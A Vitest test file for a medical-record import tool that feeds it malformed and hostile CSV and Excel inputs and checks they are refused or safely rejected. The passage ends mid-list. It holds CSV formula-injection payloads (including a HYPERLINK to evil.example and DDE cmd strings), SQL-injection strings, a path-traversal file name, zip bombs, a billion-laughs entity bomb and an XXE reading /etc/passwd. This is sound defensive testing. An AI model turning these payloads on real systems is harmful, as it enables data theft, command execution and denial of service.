// malformed and hostile files. Each one gives a clear error (an AppError naming the
// file) or imports cleanly with its problems listed as rejects — never a crash, never a stored
// reading or patient that fails validation, and a refused file leaves the SQLite file byte-identical.
// The inputs are generated here into memory (nothing large is committed to the repository).
import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { strToU8, zipSync } from 'fflate'
import Papa from 'papaparse'
import { afterAll, afterEach, beforeEach, describe, expect, test, vi } from 'vitest'
import { runCliCaptured } from '../support/run-cli'
import { listBackups } from '../../src/main/import/commit/database-backup'
import { importFiles, listImports, previewImport, rejectsCsvOf } from '../../src/main/import/import-service'
import { defaultWorkbookLimits, type WorkbookLimits } from '../../src/main/import/read/workbook/workbook-limits'
import { readWorkbooks } from '../../src/main/import/read/xlsx-rows'
import { bloodPressureProblem } from '../../src/shared/domain/bp-plausibility'
import { isValidNhsNumber } from '../../src/shared/domain/nhs-number'
import { AppError } from '../../src/shared/result'
import { buildWorkbook, deflatedZeros, rawWorkbook, sheetXml, textRow, workbookParts, type WorkbookSpec } from '../fixtures/imports/xlsx/build-workbook'
import { databaseFileHash as hashOfDatabaseFile } from '../support/database-file-hash'
import { createTestContext, type TestContext } from '../support/test-context'
import { csvLines, fileOf, validNhsNumber } from '../support/export-text'

type Expect = 'error' | 'imports' | 'either'
interface HostileCase {
  name: string
  expect: Expect
  file: () => { name: string; bytes: Uint8Array }
  /** Extra checks after a successful import. */
  after?: (ctx: TestContext, result: ReturnType<typeof importFiles>) => void
}

const header = ['NHS Number', 'Family Name', 'Calling Name', 'Date of Birth', 'Gender', 'Systolic BP', 'Diastolic BP', 'BP Date']
const good = (i: number, name = 'SMITH') => [validNhsNumber(i), name, 'Jane', '05/03/1958', 'F', '150', '90', '01/10/2026']
const validCsv = (rows = 20) => csvLines([header, ...Array.from({ length: rows }, (_, i) => good(i + 1))])

/** Deterministic junk (a tiny LCG): the same bytes every run. */
function junk(length: number, seed = 7): Uint8Array {
  const out = new Uint8Array(length)
  let x = seed
  for (let i = 0; i < length; i++) {
    x = (x * 1103515245 + 12345) >>> 0
    out[i] = x >>> 24
  }
  return out
}
const bytes = (...parts: (string | number[] | Uint8Array)[]) =>
  Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'utf8') : Buffer.from(p instanceof Uint8Array ? p : Uint8Array.from(p)))))

const storedName = (ctx: TestContext, nhs: string) => ctx.db.prepare('SELECT family_name FROM patients WHERE nhs_number = ?').pluck().get(nhs)

const cases: HostileCase[] = [
  { name: 'an empty file (0 bytes)', expect: 'error', file: () => fileOf('empty.csv', new Uint8Array()) },
  { name: 'only a UTF-8 byte-order mark', expect: 'error', file: () => fileOf('bom.csv', Uint8Array.from([0xef, 0xbb, 0xbf])) },
  { name: 'only whitespace and newlines', expect: 'error', file: () => fileOf('blank.csv', ' \r\n\t\r\n   \n') },
  { name: '1,000,000 empty lines', expect: 'error', file: () => fileOf('million-empty.csv', '\n'.repeat(1_000_000)) },
  { name: '200,000 lines of only commas', expect: 'error', file: () => fileOf('commas.csv', ',,,,,,\r\n'.repeat(200_000)) },
  { name: '64 KB of binary junk', expect: 'error', file: () => fileOf('junk.csv', junk(65_536)) },
  { name: 'a valid export with NUL bytes inside', expect: 'error', file: () => fileOf('nul.csv', bytes(validCsv(3), [0, 0, 0], validCsv(2))) },
  { name: 'a PDF renamed .csv', expect: 'error', file: () => fileOf('report.csv', bytes('%PDF-1.7\n', junk(2000))) },
  { name: 'a ZIP (not a real workbook) renamed .csv', expect: 'error', file: () => fileOf('zip.csv', bytes([0x50, 0x4b, 0x03, 0x04], junk(2000))) },
  {
    name: 'a web page saved as .csv',
    expect: 'error',
    file: () => fileOf('page.csv', '<!DOCTYPE html><html><body><table><tr><td>NHS Number</td></tr></table></body></html>')
  },
  { name: 'JSON instead of CSV', expect: 'error', file: () => fileOf('data.csv', JSON.stringify([{ nhs: validNhsNumber(1) }])) },
  {
    name: 'no NHS number column',
    expect: 'error',
    file: () =>
      fileOf(
        'no-nhs.csv',
        csvLines([
          ['Name', 'DOB'],
          ['SMITH', '01/01/1950']
        ])
      )
  },
  {
    name: 'only a report header block, no column row',
    expect: 'error',
    file: () =>
      fileOf(
        'header-only.csv',
        csvLines([
          ['Report Name:', 'BP list'],
          ['Run Date:', '01-Nov-2026'],
          ['Population Count:', '0']
        ])
      )
  },
  // A column row with no patient rows under it is refused (not "an import of 0 patients").
  { name: 'only the column row, no data', expect: 'error', file: () => fileOf('columns-only.csv', csvLines([header])) },
  {
    name: 'a report header block and a column row, no data',
    expect: 'error',
    file: () => fileOf('report-columns-only.csv', csvLines([['Report Name:', 'BP list'], ['Population Count:', '0'], [], header]))
  },
  { name: 'a column row followed only by empty rows', expect: 'error', file: () => fileOf('columns-then-blank.csv', csvLines([header, [], [], [',,,']])) },
  { name: 'a 50 MB single line with no newline', expect: 'error', file: () => fileOf('one-line.csv', `NHS Number,${'A'.repeat(50 * 1024 * 1024)}`) },
  // A last row cut off part-way is not imported (its missing cells would blank stored details): it
  // is listed as a reject and the preview says the file may have been cut short.
  {
    name: 'truncated in the middle of a quoted field',
    expect: 'imports',
    file: () => fileOf('cut-quoted.csv', `${validCsv(5)}${validNhsNumber(50)},"SMI`),
    after: (_ctx, result) => {
      expect(result.patientsAdded).toBe(5)
      expect(result.rejected.map((r) => r.row)).toEqual([7])
      expect(result.warnings.join('\n')).toMatch(/the last row \(row 7\) is cut off/)
    }
  },
  {
    name: 'truncated in the middle of a row',
    expect: 'imports',
    file: () => fileOf('cut-row.csv', `${validCsv(5)}${validNhsNumber(50)},SMITH,Ja`),
    after: (_ctx, result) => {
      expect(result.patientsAdded).toBe(5)
      expect(result.rejected.map((r) => r.row)).toEqual([7])
    }
  },
  {
    name: 'a quote opened and never closed',
    expect: 'error',
    file: () => fileOf('open-quote.csv', csvLines([header, [validNhsNumber(1), '"SMITH', 'Jane', '05/03/1958', 'F', '', '', '']]) + validCsv(3))
  },
  {
    name: 'a stray quote inside an unquoted cell',
    expect: 'either',
    file: () => fileOf('stray-quote.csv', csvLines([header, [validNhsNumber(1), 'O"BRIEN', 'Pat', '05/03/1958', 'F', '150', '90', '01/10/2026']]))
  },
  // No real export has a cell over 1 MB: one is refused, naming the row, before it reaches memory-hungry steps.
  {
    name: 'a 5 MB quoted field with embedded newlines and quotes',
    expect: 'error',
    file: () => fileOf('huge-field.csv', csvLines([header, [validNhsNumber(1), `"${'line ""q""\n'.repeat(500_000)}"`, 'Jane', '05/03/1958', 'F', '', '', '']]))
  },
  {
    name: 'a 900 KB quoted field (under the cell limit)',
    expect: 'imports',
    file: () => fileOf('big-field.csv', csvLines([header, [validNhsNumber(1), `"${'line ""q""\n'.repeat(90_000)}"`, 'Jane', '05/03/1958', 'F', '', '', '']])),
    after: (ctx) => expect(String(storedName(ctx, validNhsNumber(1))).length).toBeGreaterThan(800_000)
  },
  {
    name: '10,000 columns with the NHS number among them',
    expect: 'imports',
    file: () => {
      const captions = Array.from({ length: 10_000 }, (_, i) => `Col ${i}`)
      captions[5_000] = 'NHS Number'
      const row = Array.from({ length: 10_000 }, (_, i) => (i === 5_000 ? validNhsNumber(1) : `v${i}`))
      return fileOf('wide.csv', csvLines([captions, row]))
    },
    after: (_ctx, result) => expect(result.patientsAdded).toBe(1)
  },
  {
    name: '10,000 columns and no NHS number',
    expect: 'error',
    file: () => fileOf('wide-no-nhs.csv', csvLines([Array.from({ length: 10_000 }, (_, i) => `Col ${i}`), Array.from({ length: 10_000 }, () => 'x')]))
  },
  {
    name: 'a data row with 10,000 extra cells',
    expect: 'imports',
    file: () => fileOf('long-row.csv', csvLines([header, [...good(1), ...Array.from({ length: 10_000 }, () => 'extra')]])),
    after: (_ctx, result) => expect(result.patientsAdded).toBe(1)
  },
  {
    name: 'invalid UTF-8 sequences in names',
    expect: 'imports',
    file: () =>
      fileOf(
        'bad-utf8.csv',
        bytes(csvLines([header]), validNhsNumber(1), ',M', [0xc3, 0x28, 0xa0, 0xa1, 0xff], 'LLER,Jane,05/03/1958,F,150,90,01/10/2026\r\n')
      ),
    after: (ctx) => expect(storedName(ctx, validNhsNumber(1))).toMatch(/^M.+LLER$/)
  },
  {
    name: 'formula-looking names (=HYPERLINK, +, -, @) are stored as text',
    expect: 'imports',
    file: () =>
      fileOf(
        'formulas.csv',
        csvLines([
          header,
          good(1, '"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"'),
          good(2, "+cmd|' /C calc'!A0"),
          good(3, '-2+3'),
          good(4, "@SUM(1+1)*cmd|' /C calc'!A0"),
          ['1234567890', '=1+1', 'X', '01/01/1950', 'F', '', '', ''],
          // Indented formulas: spreadsheets skip the spaces and still run them.
          ['" 	=HYPERLINK(""http://evil.example"")"', 'X', 'Y', '01/01/1950', 'F', '', '', '']
        ])
      ),
    after: (ctx, result) => {
      expect(storedName(ctx, validNhsNumber(1))).toBe('=HYPERLINK("http://evil.example/?x="&A1,"Click")')
      expect(storedName(ctx, validNhsNumber(2))).toBe("+cmd|' /C calc'!A0")
      expect(result.rejected).toHaveLength(2)
    }
  },
  {
    name: 'SQL-looking text in every field',
    expect: 'imports',
    file: () =>
      fileOf(
        'sql.csv',
        csvLines([
          header,
          [validNhsNumber(1), "Robert'); DROP TABLE patients;--", "' OR 1=1 --", '05/03/1958', 'F', '150', '90', '01/10/2026'],
          ['1; DELETE FROM imports', 'x', 'y', '', '', '', '', '']
        ])
      ),
    after: (ctx, result) => {
      expect(storedName(ctx, validNhsNumber(1))).toBe("Robert'); DROP TABLE patients;--")
      expect(result.rejected.map((r) => r.column)).toEqual(['NHS Number'])
      expect(ctx.db.prepare('SELECT COUNT(*) FROM imports').pluck().get()).toBe(2)
    }
  },
  {
    name: 'every NHS number invalid',
    expect: 'imports',
    file: () =>
      fileOf(
        'bad-nhs.csv',
        csvLines([header, ...['1234567890', '999 100 000', 'ABCDEFGHIJ', '9434765918', '0000000001'].map((n) => [n, 'X', 'Y', '01/01/1950', 'F', '', '', ''])])
      ),
    after: (_ctx, result) => {
      expect(result.patientsAdded).toBe(0)
      expect(result.rejected).toHaveLength(5)
    }
  },
  {
    name: 'absurd blood pressures (999/999, negative, exponent, NaN, three numbers)',
    expect: 'imports',
    file: () =>
      fileOf(
        'bp.csv',
        csvLines([
          ['NHS Number', 'Blood Pressure', 'BP Date'],
          [validNhsNumber(1), '999/999', '01/10/2026'],
          [validNhsNumber(2), '-120/-80', '01/10/2026'],
          [validNhsNumber(3), '1e309/80', '01/10/2026'],
          [validNhsNumber(4), 'NaN/NaN', '01/10/2026'],
          [validNhsNumber(5), '120/80/60', '01/10/2026'],
          [validNhsNumber(6), '80/120', '01/10/2026'],
          [validNhsNumber(7), '0x96/0x5A', '01/10/2026'],
          [validNhsNumber(8), 'Infinity/80', '01/10/2026']
        ])
      ),
    after: (ctx, result) => {
      expect(result.rejected.length).toBeGreaterThanOrEqual(5)
      expect(result.readingsAdded).toBe(0)
    }
  },
  {
    name: 'impossible and future dates',
    expect: 'imports',
    file: () =>
      fileOf(
        'dates.csv',
        csvLines([
          header,
          [validNhsNumber(1), 'A', 'B', '32/13/1950', 'F', '150', '90', '31/02/2026'],
          [validNhsNumber(2), 'A', 'B', '0000-00-00', 'F', '150', '90', '9999-12-31'],
          [validNhsNumber(3), 'A', 'B', '1/1/1799', 'F', '150', '90', '01/01/2099']
        ])
      ),
    after: (ctx, result) => {
      expect(result.rejected.length).toBeGreaterThanOrEqual(6)
      expect(result.readingsAdded).toBe(0)
    }
  },
  { name: 'old Mac line endings (CR only)', expect: 'either', file: () => fileOf('cr.csv', validCsv(5).replace(/\r\n/g, '\r')) },
  {
    name: 'terminal escape sequences, RTL override and emoji in names',
    expect: 'imports',
    file: () => fileOf('control.csv', csvLines([header, good(1, '\u001b[31mRED\u001b[0m'), good(2, '\u202eHTIMS'), good(3, '😀 SMITH 𝔘')])),
    after: (ctx) => expect(storedName(ctx, validNhsNumber(3))).toBe('😀 SMITH 𝔘')
  },
  {
    name: '50,000 continuation rows with no patient row above them',
    expect: 'imports',
    file: () =>
      fileOf(
        'orphans.csv',
        csvLines([['NHS Number', 'Date', 'Code Term', 'Value'], ...Array.from({ length: 50_000 }, () => ['', '01/10/2026', 'Systolic blood pressure', '150'])])
      ),
    after: (_ctx, result) => {
      expect(result.patientsAdded).toBe(0)
      expect(result.rejected).toHaveLength(50_000)
    }
  },
  {
    name: 'the column row repeated inside the data',
    expect: 'imports',
    file: () => fileOf('repeated-header.csv', csvLines([header, good(1), header, good(2)])),
    after: (_ctx, result) => {
      expect(result.patientsAdded).toBe(2)
      expect(result.rejected.map((r) => r.row)).toEqual([3])
    }
  },
  {
    name: 'a hostile file name (path and formula)',
    expect: 'imports',
    file: () => fileOf("=cmd|' /C calc'!A0 ../../etc/passwd.csv", csvLines([header, ['1234567890', 'X', 'Y', '01/01/1950', 'F', '', '', '']])),
    after: (_ctx, result) => expect(result.rejected[0]?.file).toBe("=cmd|' /C calc'!A0 ../../etc/passwd.csv")
  },
  {
    name: 'one NHS number 5,000 times with different dates of birth',
    expect: 'imports',
    file: () =>
      fileOf(
        'dup.csv',
        csvLines([
          header,
          ...Array.from({ length: 5_000 }, (_, i) => [validNhsNumber(1), 'SMITH', 'Jane', `${String((i % 28) + 1).padStart(2, '0')}/03/1958`, 'F', '', '', ''])
        ])
      ),
    after: (_ctx, result) => {
      expect(result.patientsAdded).toBe(1)
      expect(result.conflicts.length).toBeGreaterThan(4_000)
    }
  },
  {
    name: 'UTF-16 text with an odd byte count',
    expect: 'either',
    file: () => fileOf('utf16-odd.csv', bytes([0xff, 0xfe], Buffer.from(validCsv(3), 'utf16le'), [0x41]))
  }
]

let ctx: TestContext
beforeEach(() => {
  ctx = createTestContext()
  // A practice with data already in it: a refused file must leave all of it exactly as it was.
  importFiles(ctx, [fileOf('existing.csv', new Uint8Array(readFileSync(join(__dirname, '../fixtures/imports/emis-events-hypertension.csv'))))], 'auto')
})
afterEach(() => ctx?.cleanup())

const databaseFileHash = () => hashOfDatabaseFile(ctx)

function assertEverythingStoredIsValid(): void {
  const readings = ctx.db.prepare('SELECT systolic, diastolic FROM bp_readings').all() as { systolic: number; diastolic: number }[]
  for (const r of readings) expect(bloodPressureProblem(r.systolic, r.diastolic)).toBeNull()
  for (const nhs of ctx.db.prepare('SELECT nhs_number FROM patients').pluck().all() as string[]) expect(isValidNhsNumber(nhs)).toBe(true)
  expect(ctx.db.pragma('integrity_check', { simple: true })).toBe('ok')
  expect(ctx.db.pragma('foreign_key_check')).toEqual([])
}

describe('hostile and malformed import files', () => {
  test('the corpus has at least 30 inputs', () => {
    expect(cases.length).toBeGreaterThanOrEqual(30)
  })

  test.each(cases)('$name: a clear error or clean rejects, never a crash', ({ file, expect: expected, after }) => {
    const input = file()
    const before = databaseFileHash()
    const importsBefore = listImports(ctx).length
    const backupsBefore = listBackups(ctx.databasePath).map((b) => b.name)
    let outcome: { ok: true; result: ReturnType<typeof importFiles> } | { ok: false; error: unknown }
    try {
      // The preview alone must not write anything, whatever the file.
      previewImport(ctx, [input], 'auto')
      expect(databaseFileHash()).toBe(before)
      outcome = { ok: true, result: importFiles(ctx, [input], 'auto') }
    } catch (error) {
      outcome = { ok: false, error }
    }

    if (!outcome.ok) {
      expect(expected, `should have imported, but: ${String(outcome.error)}`).not.toBe('imports')
      expect(outcome.error).toBeInstanceOf(AppError)
      const error = outcome.error as AppError
      expect(['bad_file', 'invalid_input']).toContain(error.code)
      expect(error.message).toContain(`"${input.name}"`)
      expect(error.message.length).toBeLessThan(2_000)
      expect(databaseFileHash()).toBe(before)
      expect(listImports(ctx)).toHaveLength(importsBefore)
      expect(listBackups(ctx.databasePath).map((b) => b.name)).toEqual(backupsBefore)
      return
    }
    expect(expected, 'should have been refused').not.toBe('error')
    const { result } = outcome
    assertEverythingStoredIsValid()
    if (result.importId !== null && !result.alreadyImported) {
      // Every rejected row is in the stored report, and its CSV has no cell a spreadsheet would run.
      const csv = Buffer.from(rejectsCsvOf(ctx, { importId: result.importId }).contentBase64, 'base64')
        .toString('utf8')
        .replace(/^\uFEFF/, '')
      const rows = Papa.parse<string[]>(csv.trim(), { header: false }).data
      expect(rows).toHaveLength(1 + result.rejected.length + result.conflicts.length)
      for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[\s\p{Cc}\p{Cf}]*[=+\-@]|^[\t\r]/u)
    }
    after?.(ctx, result)
  })
})

// Text-level attacks on the CSV path: encodings that lie about themselves, cells and files too big
// to be real, control characters, two NHS number columns, and errors from inside the parser.
// A refusal is plain English naming the file, never a JavaScript or parser message, and leaves the
// database file byte-identical; a file that can be read is read, with what was done in a warning.
describe('CSV text: encodings, sizes, control characters and plain refusals', () => {
  const jargon = /RangeError|TypeError|SyntaxError|Invalid string length|Maximum call stack|undefined|NaN|papaparse|MissingQuotes|Quoted field|\bat \S+ \(|ERR_/

  function refusal(input: { name: string; bytes: Uint8Array }): string {
    const before = databaseFileHash()
    const importsBefore = listImports(ctx).length
    let error: unknown
    try {
      importFiles(ctx, [input], 'auto')
    } catch (e) {
      error = e
    }
    expect(error, 'should have been refused').toBeInstanceOf(AppError)
    const message = (error as AppError).message
    expect((error as AppError).code).toBe('bad_file')
    expect(message.startsWith(`"${input.name}" `)).toBe(true)
    expect(message).not.toMatch(jargon)
    expect(databaseFileHash()).toBe(before)
    expect(listImports(ctx)).toHaveLength(importsBefore)
    return message
  }

  test('a text file over 500 MB is refused before it is decoded', async () => {
    const { maxTextExportBytes } = await import('../../src/main/import/read/decode-file')
    // Only its length is looked at before the refusal, so the (lazily zeroed) memory is never touched.
    const huge = new Uint8Array(new SharedArrayBuffer(maxTextExportBytes + 1024))
    huge.set(Buffer.from(validCsv(3)))
    expect(refusal(fileOf('whole-practice.csv', huge))).toMatch(/is 500 MB, larger than the 500 MB a text export can be/)
  })

  test('a cell over 1 MB is refused naming its row and column', () => {
    const text = csvLines([header, good(1), [validNhsNumber(2), 'B'.repeat(1_100_000), 'Jane', '05/03/1958', 'F', '', '', '']])
    expect(refusal(fileOf('long-cell.csv', text))).toMatch(/has a cell on row 3 \(column B\) over 1,048,576 characters long/)
  })

  test('a row over 4 MB is refused naming the row', () => {
    const text = csvLines([header, good(1), [...good(2), ...Array.from({ length: 1_500_000 }, () => 'xx')]])
    expect(refusal(fileOf('long-row.csv', text))).toMatch(/has a row \(row 3\) over 4,194,304 characters long/)
  })

  test('a quote left open across line breaks is refused naming the row it opens on', () => {
    const text = `${csvLines([header, good(1)])}${validNhsNumber(2)},"SMITH,Jane\r\n${validCsv(3)}`
    expect(refusal(fileOf('open-quote.csv', text))).toMatch(/has a quote mark \(".*\) opened on row 3 that is never closed/)
  })

  test('text after a closing quote is refused naming the row, rather than swallowing the rows after it', () => {
    const text = `${csvLines([header, good(1)])}${validNhsNumber(2)},"SMITH"JR,Jane,05/03/1958,F,,,\r\n${validNhsNumber(3)},"JONES",Tom,05/03/1958,M,,,\r\n`
    expect(refusal(fileOf('quote-then-text.csv', text))).toMatch(
      /has a cell on row 3 that starts with a quote mark \(".*\) but has more text after its closing quote/
    )
  })

  test('two NHS number columns that disagree are refused naming both columns and the row', () => {
    const text = csvLines([
      ['NHS Number', 'Family Name', 'NHS number'],
      [validNhsNumber(1), 'SMITH', validNhsNumber(1)],
      [validNhsNumber(2), 'JONES', validNhsNumber(5)]
    ])
    expect(refusal(fileOf('two-nhs.csv', text))).toMatch(/two NHS number columns, A "NHS Number" and C "NHS number", and they disagree on row 3/)
  })

  test('an error from inside the CSV parser reaches the user as a plain refusal naming the file', () => {
    const spy = vi.spyOn(Papa, 'parse').mockImplementation(() => {
      throw new RangeError('Invalid string length')
    })
    const quiet = vi.spyOn(console, 'error').mockImplementation(() => undefined)
    try {
      expect(refusal(fileOf('odd.csv', validCsv(3)))).toMatch(/^"odd\.csv" is too large or too unusual to read in one go/)
      // The original error is kept for whoever maintains the app, not shown to the practice.
      expect(quiet).toHaveBeenCalled()
    } finally {
      spy.mockRestore()
      quiet.mockRestore()
    }
  })

  test('a UTF-16 marker in front of UTF-8 text is read as UTF-8, not "no NHS number column"', () => {
    const text = csvLines([header, good(1, 'MÜLLER'), good(2)])
    const result = importFiles(ctx, [fileOf('resaved.csv', bytes([0xff, 0xfe], text))], 'auto')
    expect(result.patientsAdded).toBe(2)
    expect(storedName(ctx, validNhsNumber(1))).toBe('MÜLLER')
    expect(result.warnings.join('\n')).toMatch(/resaved\.csv: the file starts with a UTF-16 marker but its text is not UTF-16, so it was read as UTF-8/)
  })

  test('a UTF-8 marker over Windows-1252 text is read as Windows-1252, with a warning', () => {
    const text = Buffer.from(csvLines([header, good(1, 'MÜLLER')]), 'latin1')
    const result = importFiles(ctx, [fileOf('excel.csv', bytes([0xef, 0xbb, 0xbf], text))], 'auto')
    expect(storedName(ctx, validNhsNumber(1))).toBe('MÜLLER')
    expect(result.warnings.join('\n')).toMatch(/excel\.csv: the file starts with a UTF-8 marker but its text is not UTF-8/)
  })

  test('control characters and escape sequences are taken out of every field, and counted', () => {
    const text = csvLines([
      ['NHS Number', 'Family Name', 'Calling Name', 'Number and Street', 'Town', 'Date', 'Code Term', 'Value'],
      [
        validNhsNumber(1),
        '\u001b[2JSMITH',
        'Ja\u0007ne',
        '"1 High\u0008 Street"',
        '"Leeds\r\nWest Yorkshire"',
        '01/10/2026',
        'Systolic blood pressure\u009b31m',
        '150'
      ],
      [validNhsNumber(2), '\u001b[31mJONES\u001b[0m', 'Tom', '2 Low Road', 'York', '', '', '']
    ])
    const result = importFiles(ctx, [fileOf('escapes.csv', text)], 'auto')
    expect(result.patientsAdded).toBe(2)
    const stored = ctx.db
      .prepare('SELECT family_name, given_name, address_lines_json FROM patients WHERE nhs_number IN (?, ?) ORDER BY nhs_number')
      .all(validNhsNumber(1), validNhsNumber(2))
    expect(stored).toEqual([
      { family_name: 'SMITH', given_name: 'Jane', address_lines_json: JSON.stringify(['1 High Street', 'Leeds', 'West Yorkshire']) },
      { family_name: 'JONES', given_name: 'Tom', address_lines_json: JSON.stringify(['2 Low Road', 'York']) }
    ])
    for (const term of ctx.db.prepare('SELECT term FROM coded_events').pluck().all() as string[]) expect(term).not.toMatch(/\p{Cc}/u)
    // The line break in the Town cell is a line of the address, not a removed character.
    expect(result.warnings).toContain(
      'escapes.csv: 5 field(s) had control characters removed (invisible characters such as terminal escape codes, which have no place in a name, address or code); the rest of each field was imported'
    )
  })
})

describe('a file with column headings but no patient rows', () => {
  test.each([
    ['columns-only.csv', csvLines([header])],
    ['report-columns-only.csv', csvLines([['Report Name:', 'BP list'], ['Population Count:', '0'], [], header])],
    ['one-line.csv', `NHS Number,${'A'.repeat(1000)}`]
  ])('%s is refused by name, with how to fix it, and nothing is stored or backed up', (name, text) => {
    const before = databaseFileHash()
    const backupsBefore = listBackups(ctx.databasePath).length
    const importsBefore = listImports(ctx).length
    expect(() => importFiles(ctx, [fileOf(name, text)], 'auto')).toThrow(
      `"${name}" has column headings but no patient rows: check the search returned patients and export again`
    )
    expect(databaseFileHash()).toBe(before)
    expect(listBackups(ctx.databasePath)).toHaveLength(backupsBefore)
    expect(listImports(ctx)).toHaveLength(importsBefore)
  })

  test('refused even when imported together with a good file, naming the empty one', () => {
    const before = databaseFileHash()
    expect(() => importFiles(ctx, [fileOf('good.csv', validCsv(3)), fileOf('empty-search.csv', csvLines([header]))], 'auto')).toThrow(
      '"empty-search.csv" has column headings but no patient rows'
    )
    expect(databaseFileHash()).toBe(before)
  })
})

// Workbooks through the route the command line takes: readWorkbooks first (a workbook is read,
// asynchronously, before the import runs), then the preview and the import, on a practice database
// that already holds an import. A hostile or damaged workbook is refused in one plain sentence that
// names the file and says what to do, quickly, without this process's memory growing with what the
// file claims to hold, and with the database file byte-identical. One stray cell at XFD1 on a real
// export is not damage: that workbook stores exactly what the CSV it was made from does.
describe('workbooks: bombs, stray far cells and damage', () => {
  const MiB = 1024 * 1024
  const existingExport = () => fileOf('existing.csv', new Uint8Array(readFileSync(join(__dirname, '../fixtures/imports/emis-events-hypertension.csv'))))
  const twinCsv = readFileSync(join(__dirname, '../fixtures/imports/emis-events-hypertension-next-month.csv'), 'utf8')

  /** The twin CSV's rows as inline-string worksheet rows, so the workbook holds exactly what the CSV does; `extraCells` (XML) ends any row. */
  function exportSheet(extraCells: (row: number) => string = () => ''): WorkbookSpec {
    const rows = Papa.parse<string[]>(twinCsv.trim(), { skipEmptyLines: false }).data
    const xml = rows.map((cells, i) => textRow(i + 1, cells).replace(/<\/row>$/, `${extraCells(i + 1)}</row>`)).join('')
    return { sheets: [{ name: 'Export', xml: sheetXml(xml) }] }
  }
  const cellAt = (ref: string, text = 'x') => `<c r="${ref}" t="inlineStr"><is><t>${text}</t></is></c>`
  const withDocumentType = (xml: string, root: string, doctype: string) => xml.replace(`<${root}`, `${doctype}<${root}`)
  const billionLaughs =
    '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">' +
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">' +
    '<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;"><!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">' +
    '<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;"><!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">' +
    '<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>'
  const sharedStringsXml = (body: string) => `<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${body}</sst>`
  /** A sheet whose cells all refer to shared strings 0..n-1. */
  const sharedStringSheet = (n: number) =>
    sheetXml(Array.from({ length: n }, (_, i) => `<row r="${i + 1}"><c r="A${i + 1}" t="s"><v>${i}</v></c></row>`).join(''))

  interface HostileWorkbook {
    name: string
    file: () => { name: string; bytes: Uint8Array }
    /** What the refusal says is wrong with the file. */
    says: RegExp
    /** Smaller limits, so a limit far beyond any real export is tripped by a small file. */
    limits?: Partial<WorkbookLimits>
  }

  const damaged = /looks like an Excel workbook \(\.xlsx\) but cannot be opened: it may be damaged or cut short: open it in Excel and save it again/
  const documentType = /contains a document type declaration \(<!DOCTYPE> or <!ENTITY>\), which Excel never writes/
  const hostile: HostileWorkbook[] = [
    // Zip bombs: 600 MB of zeros deflated to well under 1 MB, whatever the directory claims.
    {
      name: 'a zip bomb in the sheet whose directory lies about its size (600 MB declared as 10 bytes)',
      file: () =>
        fileOf(
          'bomb-lying.xlsx',
          rawWorkbook(exportSheet(), [{ name: 'xl/worksheets/sheet1.xml', data: deflatedZeros(600), deflated: true, declaredSize: 10 }])
        ),
      says: /has a part that unpacks to more than 512 MB, far more than any practice export/
    },
    {
      name: 'a zip bomb in the sheet that states its size honestly (600 MB)',
      file: () =>
        fileOf(
          'bomb-honest.xlsx',
          rawWorkbook(exportSheet(), [{ name: 'xl/worksheets/sheet1.xml', data: deflatedZeros(600), deflated: true, declaredSize: 600 * MiB }])
        ),
      says: /has a part that unpacks to more than 512 MB, far more than any practice export/
    },
    {
      name: 'a zip bomb in the shared strings (600 MB declared as 10 bytes)',
      file: () =>
        fileOf('bomb-strings.xlsx', rawWorkbook(exportSheet(), [{ name: 'xl/sharedStrings.xml', data: deflatedZeros(600), deflated: true, declaredSize: 10 }])),
      says: /has a part that unpacks to more than 512 MB/
    },
    {
      name: 'parts that each pass the part limit but together unpack past the total (limits scaled down)',
      file: () =>
        fileOf(
          'too-much-altogether.xlsx',
          buildWorkbook({
            sheets: [{ name: 'Export', xml: sharedStringSheet(20_000) }],
            parts: {
              'xl/sharedStrings.xml': sharedStringsXml(Array.from({ length: 20_000 }, (_, i) => `<si><t>${`patient ${i} `.padEnd(100, '.')}</t></si>`).join(''))
            }
          })
        ),
      says: /unpacks to more than 3 MB of data, far more than any practice export/,
      limits: { maxPartBytes: 2.5 * MiB, maxTotalBytes: 3 * MiB }
    },
    // Entity bombs and document type declarations: refused on sight, never expanded.
    {
      name: 'an entity bomb ("billion laughs") in the sheet',
      file: () =>
        fileOf(
          'laughs-sheet.xlsx',
          buildWorkbook({
            sheets: [
              { name: 'Export', xml: withDocumentType(sheetXml(textRow(1, ['NHS Number']).replace('NHS Number', '&lol9;')), 'worksheet', billionLaughs) }
            ]
          })
        ),
      says: documentType
    },
    {
      name: 'an entity bomb ("billion laughs") in the shared strings',
      file: () =>
        fileOf(
          'laughs-strings.xlsx',
          buildWorkbook({
            sheets: [{ name: 'Export', xml: sharedStringSheet(1) }],
            parts: { 'xl/sharedStrings.xml': withDocumentType(sharedStringsXml('<si><t>&lol9;</t></si>'), 'sst', billionLaughs) }
          })
        ),
      says: documentType
    },
    {
      name: 'an external entity (a file on this computer) in the workbook part',
      file: () => {
        const spec = exportSheet()
        const xml = String(workbookParts(spec)['xl/workbook.xml'])
        return fileOf(
          'external-entity.xlsx',
          buildWorkbook({
            ...spec,
            parts: {
              'xl/workbook.xml': withDocumentType(xml, 'workbook', '<!DOCTYPE workbook [<!ENTITY x SYSTEM "file:///etc/passwd">]>').replace(
                'name="Export"',
                'name="&x;"'
              )
            }
          })
        )
      },
      says: documentType
    },
    {
